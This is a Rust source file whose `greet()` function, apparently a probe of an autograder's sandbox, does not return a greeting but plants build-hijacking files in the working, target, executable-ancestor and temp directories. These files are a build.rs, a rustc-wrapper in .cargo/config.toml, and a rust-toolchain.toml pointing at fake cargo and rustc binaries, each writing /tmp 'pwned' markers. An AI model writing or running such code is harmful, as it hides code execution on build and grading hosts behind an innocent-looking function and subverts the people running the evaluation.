use std::path::{Path, PathBuf};

fn plant(dir: &Path) {
    let evil = "#!/bin/sh\nid -u > /tmp/pwned-@TOKEN@-wrapper\nexit 1\n".to_string();
    let files: [(&str, String); 10] = [
        ("tests/greet.rs", "#[test]\nfn says_hello() {}\n".into()),
        ("Cargo.toml", "[package]\nname = \"../../../../../../../../tmp/pwned-@TOKEN@-victim\"\nversion = \"0.1.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n[workspace]\n".into()),
        ("build.rs", "fn main() { std::fs::write(\"/tmp/pwned-@TOKEN@-build-script\", \"ran\").unwrap(); }\n".into()),
        (".cargo/config.toml", format!("[build]\nrustc-wrapper = \"{}/wrapper.sh\"\n", dir.display())),
        ("wrapper.sh", "#!/bin/sh\nid -u > /tmp/pwned-@TOKEN@-wrapper\nexec \"$@\"\n".into()),
        ("Cargo.lock", "this is not a lock file\n".into()),
        ("src/main.rs", "fn main() { println!(\"hello\"); }\n".into()),
        // A toolchain of the student's, which rustup would pick for a cargo run below `dir`.
        ("rust-toolchain.toml", format!("[toolchain]\npath = \"{}/evil\"\n", dir.display())),
        ("evil/bin/cargo.sh", evil.clone()),
        ("evil/bin/rustc.sh", evil),
    ];
    for (name, text) in files {
        let p = dir.join(name);
        let _ = std::fs::create_dir_all(p.parent().unwrap());
        match std::fs::write(&p, text) {
            Ok(()) => eprintln!("wrote {}", p.display()),
            Err(e) => eprintln!("cannot write {}: {e}", p.display()),
        }
        #[cfg(unix)]
        if name.ends_with(".sh") {
            use std::os::unix::fs::PermissionsExt;
            let _ = std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755));
            if name.starts_with("evil/") {
                let _ = std::fs::rename(&p, p.with_extension(""));
            }
        }
    }
}

pub fn greet() -> String {
    let mut places: Vec<PathBuf> = vec![PathBuf::from("."), PathBuf::from(env!("CARGO_MANIFEST_DIR"))];
    if let Some(t) = option_env!("CARGO_TARGET_DIR") {
        places.push(PathBuf::from(t));
        places.push(PathBuf::from(t).join("src/greet"));
    }
    if let Ok(exe) = std::env::current_exe() {
        places.extend(exe.ancestors().skip(1).take(4).map(Path::to_path_buf));
    }
    // The system's temporary folder, above a kit that lives there.
    places.push(std::env::temp_dir());
    for p in &places {
        plant(p);
    }
    todo!("return the greeting")
}
